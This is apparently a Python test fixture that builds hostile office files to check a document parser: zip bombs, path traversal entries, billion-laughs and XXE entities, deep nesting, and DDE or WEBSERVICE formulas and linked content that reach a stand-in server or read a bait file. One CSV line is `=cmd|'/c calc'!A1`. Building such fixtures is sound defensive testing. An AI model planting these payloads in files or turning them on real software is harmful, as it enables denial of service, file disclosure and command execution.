# ruff: noqa: E501 - markup, a line an element
"""Files made to harm whoever reads them: too large, too deep, twisted, or reaching outward. Each is small when handed in.

Twelve more that reach outward stand in `tests/office/traps.py`.
"""

import io
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import docx
import xlsxwriter

from tests.office.traps import lay_bait, set_traps

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_ZEROS = b"\x00" * (1024 * 1024)
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_OFFICE = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"'
)


def attacks(folder: Path, *, server: str) -> dict[str, Path]:
    """Write the files into `folder`; `server` must not be asked, and no word of the bait may be read."""
    folder.mkdir(parents=True)
    text, document, picture = lay_bait(folder / "bait")
    made = set_traps(folder / "traps", server=server, bait=(text, document, picture))
    for name, content in {**_packages(text), **_texts(), **_books(server, text), **_other_formats(server, text, picture)}.items():
        made[name] = folder / name
        made[name].write_bytes(content)
    return made


def _packages(bait: str) -> Mapping[str, bytes]:
    """Files whose package is the attack."""
    plain = _word("<w:p><w:r><w:t>Testo</w:t></w:r></w:p>")
    return {
        "bomb.docx": _replaced(plain, {"word/media/image1.png": _ZEROS * 400}),
        "bomb-of-many.docx": _replaced(plain, {f"word/media/{n}.png": _ZEROS for n in range(400)}),
        "many-parts.docx": _replaced(plain, {f"customXml/item{n}.xml": b"<a/>" for n in range(6000)}),
        "zip-in-zip.docx": _replaced(plain, {"word/embeddings/a.zip": _nested(6)}),
        "traversal.docx": _replaced(plain, {"../../../../var/tmp/annuario-was-here": b"x"}),
        "traversal-windows.docx": _replaced(plain, {"..\\..\\annuario-was-here": b"x"}),
        "laughs.docx": _word("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", doctype=f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'),
        "entity.docx": _word("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", doctype=f'<!DOCTYPE x [<!ENTITY x SYSTEM "{bait}">]>'),
        "utf16-entity.docx": _word(
            "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", doctype=f'<!DOCTYPE x [<!ENTITY x SYSTEM "{bait}">]>', encoding="utf-16"
        ),
    }


def _texts() -> Mapping[str, bytes]:
    """Word files whose text is the attack."""
    table, end = "<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    field = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>'
    return {
        "deep.docx": _word("<w:sdt><w:sdtContent>" * 20000 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 20000),
        "deep-tables.docx": _word(table * 60 + end * 60 + "<w:p/>"),
        "deep-fields.docx": _word(f"<w:p>{field * 5000}</w:p>"),
        "blanks.docx": _word(f'<w:p><w:r><w:t xml:space="preserve">{"- " * 150_000}{" " * 500_000}1.</w:t></w:r></w:p>'),
        "many-paragraphs.docx": _word("<w:p><w:r><w:t>1) a\t b</w:t></w:r></w:p>" * 60_000),
        "circle-of-styles.docx": _circle(),
        "huge-spans.docx": _word(
            '<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl><w:p/>'
        ),
    }


def _books(server: str, bait: str) -> Mapping[str, bytes]:
    """Excel files."""
    return {
        "last-cell.xlsx": _book(lambda sheet: sheet.write("XFD1048576", "qui")),
        "last-row-formats.xlsx": _part(_book(), "</sheetData>", '<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'),
        "merged-sheet.xlsx": _part(
            _book(),
            "</sheetData>",
            '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        ),
        "laughs.xlsx": _part(_book(), "<worksheet", f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]><worksheet'),
        "dde.xlsx": _book(lambda sheet: sheet.write_formula("A5", "=soffice|'" + bait + "'!A1", None, "1")),
        "webservice.xlsx": _book(lambda sheet: sheet.write_formula("A5", f'=_xlfn.WEBSERVICE("{server}/x")', None, "1")),
        "many-formulas.xlsx": _book(lambda sheet: [sheet.write_formula(row, 0, f"=A{row}+1") for row in range(5, 30_000)]),
        "dde.csv": f"Titolo;Periodo\n=cmd|'/c calc'!A1;2005\n=WEBSERVICE(\"{server}/c\");2005\n".encode(),
    }


def _other_formats(server: str, bait: str, picture: str) -> Mapping[str, bytes]:
    """Files that only LibreOffice reads."""
    section = f'<text:section text:name="a"><text:section-source xlink:href="{bait}" xlink:type="simple"/><text:p>x</text:p></text:section>'
    frame = '<draw:frame svg:width="2cm" svg:height="2cm" text:anchor-type="paragraph"><draw:image xlink:href="{}" xlink:type="simple"/></draw:frame>'
    rtf = "{\\field{\\*\\fldinst %s}{\\fldrslt vecchio}}"
    cells = '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
    return {
        "linked-section.odt": _odf("text", f"<text:p>Testo</text:p>{section}<text:p>{frame.format(server + '/o.png')}{frame.format(picture)}</text:p>"),
        "blanks.odt": _odf("text", '<text:p>Testo<text:s text:c="2000000000"/></text:p>'),
        "deep.odt": _odf("text", "<text:section>" * 5000 + "<text:p>Testo</text:p>" + "</text:section>" * 5000),
        "linked-cells.ods": _odf(
            "spreadsheet",
            f'<table:table table:name="a"><table:table-source xlink:href="{bait}" table:mode="copy-all"/><table:table-row>'
            '<table:table-cell office:value-type="string"><text:p>Titolo</text:p></table:table-cell></table:table-row></table:table>',
        ),
        "repeated.ods": _odf("spreadsheet", f'<table:table table:name="a">{cells}</table:table>'),
        "outward.rtf": (
            "{\\rtf1\\ansi Testo\\par "
            + rtf % f'INCLUDETEXT "{bait}"'
            + rtf % f'INCLUDEPICTURE "{server}/r.png"'
            + rtf % f'INCLUDEPICTURE "{picture}"'
            + "{\\*\\template " + server + "/t.dot}\\par}"
        ).encode(),
        "deep.rtf": b"{\\rtf1 Testo" + b"{" * 200_000 + b"}" * 200_000 + b"}",
        "page.doc": f'<html><body><p>Testo</p><img src="{server}/h.png"><iframe src="{bait}"></iframe></body></html>'.encode(),
    }  # fmt: skip


# --- how they are made ---


def _word(body: str, *, doctype: str = "", encoding: str = "utf-8") -> bytes:
    held = io.BytesIO()
    docx.Document().save(held)
    xml = f'<?xml version="1.0" encoding="{encoding}"?>{doctype}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
    return _replaced(held.getvalue(), {"word/document.xml": xml.encode(encoding)})


def _circle() -> bytes:
    held = io.BytesIO()
    document = docx.Document()
    document.add_heading("Testo", 1)
    document.save(held)
    with zipfile.ZipFile(held) as archive:
        styles = archive.read("word/styles.xml").decode()
    circle = "".join(
        f'<w:style w:type="paragraph" w:styleId="C{n}"><w:name w:val="C{n}"/><w:basedOn w:val="C{(n + 1) % 50}"/></w:style>'
        for n in range(50)
    )
    return _replaced(held.getvalue(), {"word/styles.xml": styles.replace("</w:styles>", f"{circle}</w:styles>").encode()})


def _book(write: Callable[[xlsxwriter.worksheet.Worksheet], object] = lambda _: None) -> bytes:
    held = io.BytesIO()
    with xlsxwriter.Workbook(held, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Elenco")
        sheet.write_row("A1", ("Titolo", "Capitolo", "Periodo", "Importo"))
        sheet.write_row("A2", ("Maratona", "Giovani e sport", "2005", "100 EUR"))
        write(sheet)
    return held.getvalue()


def _part(content: bytes, old: str, new: str) -> bytes:
    """Return the workbook with words of its sheet replaced."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert old in sheet
    return _replaced(content, {"xl/worksheets/sheet1.xml": sheet.replace(old, new, 1).encode()})


def _odf(kind: str, body: str) -> bytes:
    held = io.BytesIO()
    mime = f"application/vnd.oasis.opendocument.{kind}"
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", mime, zipfile.ZIP_STORED)
        archive.writestr(
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
        )
        xml = f"<office:document-content {_OFFICE}><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
        archive.writestr("content.xml", f'<?xml version="1.0" encoding="UTF-8"?>{xml}')
    return held.getvalue()


def _nested(depth: int) -> bytes:
    content = _ZEROS * 50
    for level in range(depth):
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(4):
                archive.writestr(f"{level}-{copy}.zip", content)
        content = held.getvalue()
    return content


def _replaced(content: bytes, parts: Mapping[str, bytes]) -> bytes:
    """Return the package with these parts in place of those of the same names, or beside the others."""
    held = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            if name not in parts:
                after.writestr(name, before.read(name))
        for name, part in parts.items():
            after.writestr(name, part)
    return held.getvalue()
